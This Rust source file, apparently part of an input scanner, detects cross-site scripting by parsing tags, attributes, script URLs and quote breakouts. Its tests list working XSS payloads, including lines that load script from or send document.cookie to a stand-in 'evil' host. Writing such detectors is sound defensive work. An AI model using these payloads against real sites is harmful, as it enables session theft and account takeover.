@@ -1,0 +1,322 @@
+//! Cross-site scripting: markup or script that a browser would run if the value were
+//! reflected into a page. Tags are parsed (name, attributes) rather than searched for, so
+//! harmless markup (`<b>`, `<a href="https://...">`) and prose about scripts do not match.
+
+use super::Match;
+
+/// Tags that run code or change how the page loads, whatever their attributes.
+const DANGEROUS_TAGS: &[&str] = &[
+    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "import",
+    "isindex",
+];
+
+/// Attributes whose value is a URL that may carry a `javascript:` scheme.
+const URL_ATTRIBUTES: &[&str] = &[
+    "href",
+    "src",
+    "action",
+    "formaction",
+    "data",
+    "xlink:href",
+    "background",
+    "dynsrc",
+    "lowsrc",
+    "poster",
+    "to",
+    "from",
+    "values",
+    "srcset",
+];
+
+/// Calls that prove a script context breakout (`'-alert(1)-'`).
+const SINKS: &[&str] = &[
+    "alert(",
+    "prompt(",
+    "confirm(",
+    "eval(",
+    "settimeout(",
+    "setinterval(",
+    "function(",
+    "fetch(",
+    "import(",
+    "document.cookie",
+    "document.domain",
+    "document.write",
+    "window.location",
+    "location.href",
+    "top.location",
+    ".innerhtml",
+    "constructor.constructor(",
+    "string.fromcharcode(",
+];
+
+/// Checks one decoded value.
+pub fn check(value: &str) -> Option<Match> {
+    if value.len() < 4 {
+        return None;
+    }
+    let lower = value.to_ascii_lowercase();
+    if let Some(m) = tags(value, &lower) {
+        return Some(m);
+    }
+    if let Some(at) = script_scheme_at_start(&lower) {
+        return Some(Match::new(
+            "xss:script_url",
+            value,
+            at,
+            (at + 11).min(value.len()),
+        ));
+    }
+    if let Some((s, e)) = attribute_breakout(&lower) {
+        return Some(Match::new("xss:attribute_breakout", value, s, e));
+    }
+    if let Some((s, e)) = script_breakout(&lower) {
+        return Some(Match::new("xss:script_breakout", value, s, e));
+    }
+    None
+}
+
+fn tags(value: &str, lower: &str) -> Option<Match> {
+    let b = lower.as_bytes();
+    let mut i = 0;
+    while let Some(p) = lower[i..].find('<') {
+        let start = i + p;
+        let mut j = start + 1;
+        if b.get(j) == Some(&b'/') {
+            j += 1;
+        }
+        let name_start = j;
+        while j < b.len() && (b[j].is_ascii_alphanumeric() || b[j] == b'-' || b[j] == b':') {
+            j += 1;
+        }
+        i = start + 1;
+        if j == name_start || !b[name_start].is_ascii_alphabetic() {
+            continue;
+        }
+        let name = &lower[name_start..j];
+        if DANGEROUS_TAGS.contains(&name) {
+            return Some(Match::new("xss:tag", value, start, j));
+        }
+        let end = lower[j..].find('>').map_or(b.len(), |e| j + e);
+        if let Some((s, e)) = dangerous_attribute(&lower[j..end], name) {
+            return Some(Match::new("xss:attribute", value, start, j + e.max(s)));
+        }
+    }
+    None
+}
+
+/// Scans `attrs` (the inside of a tag after its name) for an event handler, a script URL or
+/// a script-bearing style; returns the byte range of the attribute.
+fn dangerous_attribute(attrs: &str, tag: &str) -> Option<(usize, usize)> {
+    let b = attrs.as_bytes();
+    let mut i = 0;
+    while i < b.len() {
+        // Attribute separators: white space and `/` (browsers accept `<svg/onload=...>`).
+        while i < b.len()
+            && (b[i].is_ascii_whitespace() || b[i] == b'/' || b[i] == b'"' || b[i] == b'\'')
+        {
+            i += 1;
+        }
+        let name_start = i;
+        while i < b.len() && !b[i].is_ascii_whitespace() && !matches!(b[i], b'=' | b'/' | b'>') {
+            i += 1;
+        }
+        let name = &attrs[name_start..i];
+        while i < b.len() && b[i].is_ascii_whitespace() {
+            i += 1;
+        }
+        let mut value = "";
+        if b.get(i) == Some(&b'=') {
+            i += 1;
+            while i < b.len() && b[i].is_ascii_whitespace() {
+                i += 1;
+            }
+            let (vs, ve) = match b.get(i) {
+                Some(&q @ (b'"' | b'\'' | b'`')) => {
+                    let close = attrs[i + 1..]
+                        .find(q as char)
+                        .map_or(b.len(), |c| i + 1 + c);
+                    (i + 1, close)
+                }
+                _ => {
+                    let e = attrs[i..]
+                        .find(|c: char| c.is_ascii_whitespace())
+                        .map_or(b.len(), |c| i + c);
+                    (i, e)
+                }
+            };
+            value = &attrs[vs..ve];
+            i = (ve + 1).min(b.len());
+            let handler = name.len() > 2
+                && name.starts_with("on")
+                && name[2..].bytes().all(|c| c.is_ascii_alphabetic());
+            if handler {
+                return Some((name_start, ve));
+            }
+            if URL_ATTRIBUTES.contains(&name) && script_scheme_at_start(value).is_some() {
+                return Some((name_start, ve));
+            }
+            if name == "srcdoc" && value.contains('<') {
+                return Some((name_start, ve));
+            }
+            if name == "style" && dangerous_css(value) {
+                return Some((name_start, ve));
+            }
+            if tag == "meta" && name == "http-equiv" && value.contains("refresh") {
+                return Some((name_start, ve));
+            }
+        } else if name.is_empty() {
+            i += 1;
+        }
+        let _ = value;
+    }
+    if tag == "style" {
+        return dangerous_css(attrs).then_some((0, attrs.len()));
+    }
+    None
+}
+
+fn dangerous_css(css: &str) -> bool {
+    [
+        "expression(",
+        "javascript:",
+        "behavior:",
+        "-moz-binding",
+        "@import",
+    ]
+    .iter()
+    .any(|p| css.contains(p))
+}
+
+/// Start of a `javascript:`/`vbscript:`/`data:text/html` URL at the start of `lower`,
+/// ignoring the white space and control characters browsers ignore there.
+fn script_scheme_at_start(lower: &str) -> Option<usize> {
+    let start = lower.find(|c: char| !c.is_ascii_whitespace() && !c.is_ascii_control())?;
+    let squeezed: String = lower[start..]
+        .chars()
+        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
+        .take(16)
+        .collect();
+    ["javascript:", "vbscript:", "data:text/html", "livescript:"]
+        .iter()
+        .any(|s| squeezed.starts_with(s))
+        .then_some(start)
+}
+
+/// `" onmouseover="...`, `' autofocus onfocus=...`: a quote that ends an attribute value
+/// followed by a new event-handler attribute.
+fn attribute_breakout(lower: &str) -> Option<(usize, usize)> {
+    let b = lower.as_bytes();
+    for (q, _) in lower.match_indices(['"', '\'']) {
+        let mut i = q + 1;
+        // Attributes may follow one another before the handler.
+        let mut seen_sep = false;
+        while i < b.len() && (b[i].is_ascii_whitespace() || b[i] == b'/') {
+            i += 1;
+            seen_sep = true;
+        }
+        if !seen_sep && b.get(i) != Some(&b'>') {
+            continue;
+        }
+        let rest = &lower[i..];
+        let name_len = rest.bytes().take_while(|c| c.is_ascii_alphabetic()).count();
+        let after = rest[name_len..].trim_start();
+        if name_len > 2 && rest.starts_with("on") && after.starts_with('=') {
+            return Some((q, i + name_len + 1));
+        }
+        if rest.starts_with("autofocus") && rest.contains("onfocus") {
+            return Some((q, lower.len().min(i + 20)));
+        }
+    }
+    None
+}
+
+/// `';alert(1)//`, `"-prompt(1)-"`, `'};fetch(...)`: a quote closing a script string,
+/// an operator, then a sink call.
+fn script_breakout(lower: &str) -> Option<(usize, usize)> {
+    let b = lower.as_bytes();
+    for (q, _) in lower.match_indices(['"', '\'', '`']) {
+        let mut i = q + 1;
+        let mut ops = 0;
+        while i < b.len() && (b[i].is_ascii_whitespace() || b"-+;,*/|&})]!^~%<>=(".contains(&b[i]))
+        {
+            if !b[i].is_ascii_whitespace() {
+                ops += 1;
+            }
+            i += 1;
+        }
+        if ops == 0 {
+            continue;
+        }
+        let rest = &lower[i..];
+        let rest = rest
+            .strip_prefix("window.")
+            .or_else(|| rest.strip_prefix("self."))
+            .or_else(|| rest.strip_prefix("top."))
+            .unwrap_or(rest);
+        if let Some(sink) = SINKS.iter().find(|s| rest.starts_with(*s)) {
+            return Some((q, (lower.len() - rest.len() + sink.len()).min(lower.len())));
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn attacks_match() {
+        let attacks = [
+            "<script>alert(1)</script>",
+            "<ScRiPt src=//evil.example/x.js>",
+            "<img src=x onerror=alert(1)>",
+            "<img src=x onerror=alert(1)",
+            "<svg/onload=alert(1)>",
+            "<body onload=alert(document.cookie)>",
+            "<a href=\"javascript:alert(1)\">x</a>",
+            "<a href=\"java\tscript:alert(1)\">x</a>",
+            "<iframe srcdoc=\"<script>alert(1)</script>\">",
+            "<iframe src=//evil>",
+            "<div style=\"width:expression(alert(1))\">",
+            "javascript:alert(1)",
+            "  JaVaScRiPt:alert(1)",
+            "data:text/html;base64,PHNjcmlwdD4=",
+            "\" onmouseover=\"alert(1)",
+            "' autofocus onfocus=alert(1) x='",
+            "\"><svg onload=alert(1)>",
+            "';alert(1)//",
+            "\"-prompt(1)-\"",
+            "'};fetch('//evil/'+document.cookie);//",
+            "<details open ontoggle=alert(1)>",
+            "<meta http-equiv=\"refresh\" content=\"0;url=//evil\">",
+            "<object data=\"javascript:alert(1)\">",
+            "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
+        ];
+        let missed: Vec<_> = attacks.iter().filter(|a| check(a).is_none()).collect();
+        assert!(missed.is_empty(), "missed: {missed:?}");
+    }
+
+    #[test]
+    fn benign_text_does_not_match() {
+        let benign = [
+            "I love JavaScript: it's great",
+            "<b>bold</b> and <i>italic</i>",
+            "<a href=\"https://example.com/page\">link</a>",
+            "x < 3 and y > 2",
+            "a<b>c",
+            "the script was long",
+            "onload event handlers are a JS topic",
+            "He said \"hello\" and left",
+            "It's done; alert the team (later)",
+            "<p class=\"note\">Hi</p>",
+            "<3 you",
+            "email me: a@b.c",
+            "Use alert() sparingly",
+            "\"quoted\" onwards",
+        ];
+        for b in benign {
+            assert_eq!(check(b), None, "{b}");
+        }
+    }
+}
